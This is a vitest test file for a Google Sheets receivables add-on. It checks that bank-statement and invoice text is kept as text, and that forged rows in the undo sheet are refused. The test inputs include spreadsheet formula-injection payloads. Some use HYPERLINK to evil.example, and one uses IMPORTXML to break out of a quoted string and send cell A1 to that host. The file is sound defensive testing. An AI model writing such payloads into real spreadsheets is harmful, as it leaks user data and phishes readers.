// Every text the add-on writes from data (a bank file, the invoice table,
// the sidebar) reads back as that same text, never a formula, a number or a
// date: Sheets reads what setValue(s) writes as if a person typed it
// (issue 21, item 5; issue 24, item 1). And undo writes only what the
// apply wrote, whatever another editor types into the hidden undo sheet
// (issue 21, item 4).
import { describe, expect, it } from 'vitest';
import { zonedInstant } from '../../runtime/index';
import { parseFormula } from '../../runtime/formulas';
import { PAYMENT_HEADERS } from '../../src/core/payments/paymentsSheet';
import { loadAddon, savePolicy, storedRows, type Addon } from '../support/addon';

const ZONE = 'Europe/Moscow';
/** Texts Sheets would read as something else if written as they are. */
const TRICKY = ['00000145', '00123', '1-2', '1/2', '2026-01', '+7 912 345-67-89', '=SUM(1)', '=HYPERLINK("http://evil.example/","click")', 'TRUE', "'quoted"];

const column = (header: (typeof PAYMENT_HEADERS)[number]) => PAYMENT_HEADERS.indexOf(header);
const lastAlert = (addon: Addon) => addon.runtime.ui.alerts[addon.runtime.ui.alerts.length - 1]?.prompt ?? '';
const quoted = (text: string) => `"${text.replace(/"/g, '""')}"`;
const base64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');

function book(rows: unknown[][], locale = 'ru_RU'): Addon {
  const addon = loadAddon({ timeZone: ZONE, locale });
  addon.runtime.setNow(zonedInstant(ZONE, 2026, 10, 12, 10));
  addon.spreadsheet.addSheet('Invoices', storedRows([['Customer', 'Invoice No', 'Invoice date', 'Due date', 'Currency', 'Amount', 'Paid', 'Paid date', 'Email'], ...rows], ZONE));
  return addon;
}

describe('the Payments sheet', () => {
  it('keeps a 1C invoice number "00000145", and each text of the bank file, as text; Apply matches then finds the invoice', () => {
    const addon = book([
      ['ООО «Вектор»', '00000145', '2026-09-02', '2026-10-02', 'RUB', 1000, '', '', 'buh@vector.example.com'],
      ['ООО «Вектор»', '00000146', '2026-09-05', '2026-10-05', 'RUB', 2000, '', '', 'buh@vector.example.com'],
    ]);
    const csv = [
      'Дата;Сумма;Валюта;Плательщик;Назначение',
      '05.10.2026;1000,00;RUB;ООО "ВЕКТОР";Оплата по счету № 00000145 от 02.09.2026',
      ...TRICKY.map((text, k) => `06.10.2026;${k + 1},00;${quoted(text)};${quoted(text)};${quoted(text)}`),
    ].join('\n');
    const summary = addon.runtime.run('importBankStatement', ['statement.csv', base64(csv)]) as string;
    expect(summary).toContain(`Imported ${TRICKY.length + 1} new payments`);
    const sheet = addon.spreadsheet.sheet('Payments')!;
    expect(sheet.formulas.size).toBe(0);
    const rows = sheet.values.slice(1);
    expect(rows[0][column('Invoices')]).toBe('00000145');
    expect(rows[0][column('Matched customer')]).toBe('ООО «Вектор»');
    TRICKY.forEach((text, k) => {
      const row = rows[k + 1];
      expect(row[column('Purpose')]).toBe(text);
      expect(row[column('Currency')]).toBe(text.toUpperCase());
    });

    sheet.write(2, column('Apply') + 1, true);
    addon.runtime.run('applyPaymentMatches');
    expect(lastAlert(addon)).toContain('Applied 1 payment to 1 invoice');
    expect(addon.spreadsheet.sheet('Invoices')!.values[1][6]).toBe(1000);
  });
});

describe('the Payments sheet typed by a person', () => {
  it('applies to invoice "00000145" when a person typed 00000145 into the Invoices cell and Sheets made it 145', () => {
    const addon = book([['ООО «Вектор»', '00000145', '2026-09-02', '2026-10-02', 'RUB', 1000, '', '', 'buh@vector.example.com']]);
    const csv = ['Дата;Сумма;Валюта;Плательщик;Назначение', '05.10.2026;1000,00;RUB;Someone;payment'].join('\n');
    addon.runtime.run('importBankStatement', ['statement.csv', base64(csv)]);
    const sheet = addon.spreadsheet.sheet('Payments')!;
    sheet.write(2, column('Invoices') + 1, 145);
    sheet.write(2, column('Apply') + 1, true);
    addon.runtime.run('applyPaymentMatches');
    expect(lastAlert(addon)).toContain('Applied 1 payment to 1 invoice');
    expect(addon.spreadsheet.sheet('Invoices')!.values[1][6]).toBe(1000);
  });
});

describe('the Customers sheet', () => {
  it('keeps a customer named "00123" as written, and its settings with it', () => {
    const addon = book([
      ['00123', 'A-1', '2026-08-01', '2026-09-01', 'RUB', 1000, '', '', 'a@example.com'],
      ['+7 Trading', 'B-1', '2026-08-01', '2026-09-01', 'RUB', 500, '', '', 'b@example.com'],
    ], 'en_US');
    savePolicy(addon);
    const reminded = () => ((addon.runtime.scriptRun('sidebarPreview') as { reminders: Array<{ customer: string }> }).reminders.map((reminder) => reminder.customer));
    expect(reminded()).toEqual(expect.arrayContaining(['00123', '+7 Trading']));
    for (const customer of ['00123', '+7 Trading']) {
      const saved = addon.runtime.scriptRun('sidebarSaveCustomer', [{ customer, email: '', language: '', doNotRemind: true, pausedUntil: '', promiseBy: '', disputed: false, ownSteps: '', plan: '' }]) as { ok: boolean };
      expect(saved.ok).toBe(true);
    }
    const customers = addon.spreadsheet.sheet('Customers')!;
    expect(customers.values.slice(1).map((row) => row[0])).toEqual(['00123', '+7 Trading']);
    expect(customers.formulas.size).toBe(0);
    expect(reminded()).toEqual([]);
    // Saved again, the same row is found: no second "00123".
    addon.runtime.scriptRun('sidebarSaveCustomer', [{ customer: '00123', email: '', language: '', doNotRemind: true, pausedUntil: '', promiseBy: '', disputed: true, ownSteps: '', plan: '' }]);
    expect(customers.values.slice(1).map((row) => row[0])).toEqual(['00123', '+7 Trading']);
  });

  it('logs and lists customers named "00123" and "+7 Trading" as written, and reminds each once', () => {
    const addon = book([
      ['00123', '00000145', '2026-08-01', '2026-09-01', 'RUB', 1000, '', '', 'a@example.com'],
      ['+7 Trading', '1-2', '2026-08-01', '2026-09-01', 'RUB', 500, '', '', 'b@example.com'],
    ], 'en_US');
    savePolicy(addon, { skipWeekends: false });
    addon.runtime.run('sendDueReminders');
    const sent = addon.runtime.outbox.sent.length;
    expect(sent).toBe(2);
    const log = addon.spreadsheet.sheet('Reminder log')!;
    expect(log.formulas.size).toBe(0);
    expect(log.values.slice(1).map((row) => row[1]).sort()).toEqual(['+7 Trading', '00123']);
    expect(addon.spreadsheet.sheet('Customers')!.values.slice(1).map((row) => row[0]).sort()).toEqual(['+7 Trading', '00123']);
    addon.runtime.run('sendDueReminders');
    expect(addon.runtime.outbox.sent).toHaveLength(sent);
  });

  it('still finds the settings of "00123" when a person typed the name and Sheets made it 123, and says so', () => {
    const addon = book([['00123', 'A-1', '2026-08-01', '2026-09-01', 'RUB', 1000, '', '', 'a@example.com']], 'en_US');
    savePolicy(addon);
    // Typed by a person into a new Customers sheet: 00123 became the number 123.
    addon.spreadsheet.addSheet('Customers', [['Customer', 'Email', 'Do not remind'], [123, '', 'yes']], { rows: 1000, columns: 26 });
    const preview = addon.runtime.scriptRun('sidebarPreview') as { reminders: Array<{ customer: string }>; problems?: string[] };
    expect(preview.reminders.map((reminder) => reminder.customer)).not.toContain('00123');
    expect(JSON.stringify(preview)).toMatch(/Customers sheet, row 2, column \\"Customer\\": 123 is a number/);
  });
});

describe('the dashboard', () => {
  it('keeps a Currency with a double quote inside the AR_CHART_DATA string: no formula of its own', () => {
    const evil = 'USD", IMPORTXML("http://evil.example/?"&A1, "//a"), "';
    const addon = book([
      ['Acme', 'A-1', '2026-08-01', '2026-09-01', evil, 1000, '', '', 'a@example.com'],
      ['Globex', 'G-1', '2026-08-01', '2026-09-01', 'EUR', 500, '', '', 'g@example.com'],
    ], 'en_US');
    addon.runtime.run('insertDashboard');
    const sheet = addon.spreadsheet.sheets.find((candidate) => candidate.name.startsWith('Receivables dashboard'))!;
    const formulas = [...sheet.formulas.values()];
    const chartData = formulas.map((formula) => parseFormula(formula)).filter((call) => call.name === 'AR_CHART_DATA');
    expect(chartData).toHaveLength(4);
    // Every argument is a range, a value or TODAY(): the currency (as the table reads it, upper case) is one string, whole.
    for (const call of chartData) expect(call.args.every((argument) => argument.kind !== 'call' || argument.name === 'TODAY')).toBe(true);
    expect(chartData.flatMap((call) => call.args).some((argument) => argument.kind === 'value' && argument.value === evil.toUpperCase())).toBe(true);
  });
});

describe('Undo last apply', () => {
  const UNDO = 'Receivables undo';
  function applied(): { addon: Addon; snapshot: (name: string) => string } {
    const addon = book([
      ['Acme Corporation', 'INV-1', '2026-09-01', '2026-10-01', 'USD', 500, '', '', 'ap@acme.example.com'],
      ['Initech LLC', 'INV-2', '2026-09-03', '2026-10-03', 'USD', 300, '', '', 'ap@initech.example.com'],
    ], 'en_US');
    savePolicy(addon);
    const csv = ['Date,Amount,Currency,Payer,Purpose', '2026-10-05,500.00,USD,Acme Corporation,invoice INV-1'].join('\n');
    addon.runtime.run('importBankStatement', ['bank.csv', base64(csv)]);
    addon.spreadsheet.sheet('Payments')!.write(2, column('Apply') + 1, true);
    addon.runtime.run('applyPaymentMatches');
    expect(lastAlert(addon)).toContain('Applied 1 payment to 1 invoice');
    return { addon, snapshot: (name) => JSON.stringify(addon.spreadsheet.sheet(name)!.values) };
  }
  /** What another editor types into the hidden undo sheet: a row that would blank a cell when undone. */
  function forge(addon: Addon, applyId: string, sheetName: string, row: number, columnNumber: number): void {
    const undo = addon.spreadsheet.sheet(UNDO)!;
    const target = addon.spreadsheet.sheet(sheetName)!;
    const now = target.read(row, columnNumber);
    const encoded = typeof now === 'number' ? `number:${now}` : `text:${String(now)}`;
    const at = undo.getLastRow() + 1;
    [applyId, new Date(), target.id, sheetName, row, columnNumber, 'text:', encoded, ''].forEach((value, c) => undo.write(at, c + 1, value));
  }

  it('refuses a record another editor added rows to, and writes nothing: not the Email, not the hidden settings', () => {
    const { addon, snapshot } = applied();
    const invoices = snapshot('Invoices');
    const settings = snapshot('Receivables settings');
    const applyId = String(addon.spreadsheet.sheet(UNDO)!.read(2, 1));
    forge(addon, applyId, 'Invoices', 2, 9);
    forge(addon, applyId, 'Receivables settings', 1, 2);
    addon.runtime.run('undoLastPaymentApply');
    expect(lastAlert(addon)).toMatch(/^Nothing undone: the undo record of your last apply .* is not as the apply wrote it/);
    expect(snapshot('Invoices')).toBe(invoices);
    expect(snapshot('Receivables settings')).toBe(settings);
    expect(addon.spreadsheet.sheet('Invoices')!.read(2, 9)).toBe('ap@acme.example.com');
  });

  it('refuses a record whose cell was changed to point elsewhere', () => {
    const { addon, snapshot } = applied();
    const invoices = snapshot('Invoices');
    // The Paid cell's record retargeted to the Email column.
    const undo = addon.spreadsheet.sheet(UNDO)!;
    const paidRow = undo.values.findIndex((row) => row[5] === 7);
    undo.write(paidRow + 1, 6, 9);
    addon.runtime.run('undoLastPaymentApply');
    expect(lastAlert(addon)).toMatch(/^Nothing undone/);
    expect(snapshot('Invoices')).toBe(invoices);
  });

  it('undoes only the apply as it wrote it when another editor adds a record of their own below it', () => {
    const { addon } = applied();
    forge(addon, 'forged-apply', 'Invoices', 2, 9);
    forge(addon, 'forged-apply', 'Receivables settings', 1, 2);
    const settings = JSON.stringify(addon.spreadsheet.sheet('Receivables settings')!.values);
    addon.runtime.run('undoLastPaymentApply');
    expect(lastAlert(addon)).toMatch(/^Undone: \d+ cells put back/);
    const invoices = addon.spreadsheet.sheet('Invoices')!;
    expect(invoices.read(2, 7)).toBe('');
    expect(invoices.read(2, 9)).toBe('ap@acme.example.com');
    expect(JSON.stringify(addon.spreadsheet.sheet('Receivables settings')!.values)).toBe(settings);
    // The forged rows are no apply of this user's: nothing more to undo.
    addon.runtime.run('undoLastPaymentApply');
    expect(lastAlert(addon)).toBe('There is no apply to undo.');
  });

  it("is another user's to undo: their click finds no apply of their own", () => {
    const { addon, snapshot } = applied();
    const invoices = snapshot('Invoices');
    addon.runtime.run('undoLastPaymentApply', [], { user: 'editor@example.com' });
    expect(lastAlert(addon)).toBe('There is no apply to undo.');
    expect(snapshot('Invoices')).toBe(invoices);
  });
});

describe('the Collections sheet', () => {
  it('keeps an invoice Currency starting with "=" and a phone starting with "+" as text in a call task', () => {
    const zone = 'Europe/London';
    const addon = loadAddon({ timeZone: zone });
    const currency = '=HYPERLINK("http://evil.example/","pay here")';
    addon.spreadsheet.addSheet('Invoices', storedRows([
      ['Customer', 'Invoice No', 'Invoice date', 'Due date', 'Amount', 'Paid', 'Paid date', 'Currency', 'Email'],
      ['00123', '00000145', '2026-02-01', '2026-03-02', 1000, '', '', currency, 'ap@acme.example.com'],
    ], zone));
    addon.spreadsheet.addSheet('Customers', [['Customer', 'Contact', 'Phone'], ['00123', '=SUM(1)', '+7 912 345-67-89']], { rows: 1000, columns: 26 });
    savePolicy(addon, { skipWeekends: false, steps: [{ offsetDays: 14, template: 'firm', channel: 'call' }] });
    addon.runtime.setNow(zonedInstant(zone, 2026, 3, 16, 10));
    addon.runtime.run('sendDueReminders');
    const sheet = addon.spreadsheet.sheet('Collections')!;
    expect(sheet.formulas.size).toBe(0);
    const header = sheet.values[0] as string[];
    const task = Object.fromEntries(header.map((name, c) => [name, sheet.values[1][c]]));
    expect([task.Customer, task.Currency, task.Contact, task.Phone, task.Invoices]).toEqual(['00123', currency.toUpperCase(), '=SUM(1)', '+7 912 345-67-89', '00000145']);
  });
});
